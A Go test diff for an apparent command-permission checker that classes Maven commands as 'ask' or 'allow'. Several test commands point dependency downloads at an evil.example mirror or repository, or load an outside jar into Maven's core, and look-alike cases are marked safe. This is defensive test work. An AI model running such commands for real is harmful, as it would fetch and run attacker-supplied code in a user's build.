@@ -283,3 +283,62 @@ func TestToolRootsOracle(t *testing.T) {
 		}
 	}
 }
+
+// TestMavenArgsAndSettings (issue 12, class 4): mvn takes options from
+// .mvn/maven.config and MAVEN_ARGS as from its command line, and the
+// settings -s/--settings and -gs/--global-settings name decide where
+// every dependency and plugin is downloaded from: a mirror or repository
+// url off Maven Central there asks, as the same settings written into
+// ~/.m2/settings.xml do; -Dmaven.ext.class.path loads jars into Maven's
+// core as an agent is loaded. Look-alikes: settings without a mirror,
+// the user's own mirror (already in ~/.m2/settings.xml), Maven Central,
+// file:// repositories, a maven.config of ordinary options.
+func TestMavenArgsAndSettings(t *testing.T) {
+	t.Parallel()
+	mirror := func(u string) string {
+		return "<settings><mirrors><mirror><id>m</id><mirrorOf>*</mirrorOf><url>" + u + "</url></mirror></mirrors></settings>\n"
+	}
+	cfg := scratchProject(t, map[string]string{
+		"home/.m2/settings.xml":      mirror("https://nexus.corp.example/repository/maven-public"),
+		"proj/evil.xml":              mirror("https://evil.example/m2"),
+		"proj/profile.xml":           "<settings><profiles><profile><repositories><repository><url>http://evil.example/r</url></repository></repositories></profile></profiles></settings>\n",
+		"proj/corp.xml":              mirror("https://nexus.corp.example/repository/maven-public"),
+		"proj/central.xml":           mirror("https://repo.maven.apache.org/maven2"),
+		"proj/local.xml":             mirror("file:///srv/m2"),
+		"proj/plain.xml":             "<settings><localRepository>/tmp/r</localRepository></settings>\n",
+		"proj/pom.xml":               "<project/>\n",
+		"proj/c/.mvn/maven.config":   "-s\n../evil.xml\n",
+		"proj/c/pom.xml":             "<project/>\n",
+		"proj/ok/.mvn/maven.config":  "-T 1C\n-Dstyle.color=always\n--no-transfer-progress\n",
+		"proj/ok/pom.xml":            "<project/>\n",
+		"proj/ext/.mvn/maven.config": "-Dmaven.ext.class.path=../ext.jar\n",
+		"proj/ext/pom.xml":           "<project/>\n",
+		"proj/ext.jar":               "PK\x03\x04....",
+	})
+	checkDecisions(t, cfg, []struct{ cmd, want string }{
+		{"mvn -s evil.xml package", "ask"},
+		{"mvn --settings=evil.xml package", "ask"},
+		{"mvn -sevil.xml package", "ask"},
+		{"mvn -gs evil.xml package", "ask"},
+		{"./mvnw --global-settings evil.xml verify", "ask"},
+		{"mvn -s profile.xml package", "ask"},
+		{"mvn -s \"$S\" package", "ask"},
+		{"printf '<settings><mirrors><mirror><url>https://evil.example/m2</url></mirror></mirrors></settings>' > s.xml && mvn -s s.xml package", "ask"},
+		{"MAVEN_ARGS='-s evil.xml' mvn package", "ask"},
+		{"export MAVEN_ARGS='-q -gs evil.xml'; mvn package", "ask"},
+		{"MAVEN_ARGS=$(cat f) mvn package", "ask"},
+		{"cd c && mvn package", "ask"},
+		{"mkdir -p .mvn && echo '-s evil.xml' > .mvn/maven.config && mvn package", "ask"},
+		{"mvn -Dmaven.ext.class.path=ext.jar package", "ask"},
+		{"cd ext && mvn package", "ask"},
+		// Look-alikes.
+		{"mvn -s plain.xml package", "allow"},
+		{"mvn -s corp.xml package", "allow"},
+		{"mvn -s central.xml package", "allow"},
+		{"mvn -s local.xml package", "allow"},
+		{"cd ok && mvn package", "allow"},
+		{"MAVEN_ARGS='-T 4 -q' mvn package", "allow"},
+		{"mvn -Dmaven.test.skip=true package", "allow"},
+		{"cat evil.xml", "allow"},
+	})
+}
